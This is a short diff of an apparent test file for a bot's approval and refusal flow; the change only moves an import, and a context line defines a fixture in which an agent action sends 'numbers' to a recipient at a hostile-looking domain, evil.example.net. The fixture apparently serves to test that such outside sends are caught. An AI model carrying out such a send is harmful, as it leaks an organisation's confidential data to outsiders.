@@ -10,7 +10,8 @@ from agent_runtime.authorization import Refusal
 from bot.errors import REFUSALS
 from bot.sandbox import people
 from bot.sandbox.driver import buttons
-from store.models import ApprovalRequest, AuditEvent, Decision
+from store.audit_models import AuditEvent
+from store.models import ApprovalRequest, Decision
 from tests.bot.flows import button, card_now, ephemeral_for, open_modal, result_message, start_run
 
 OUTSIDE = 'send_external_message {"recipient": "cfo@evil.example.net", "text": "numbers"}'
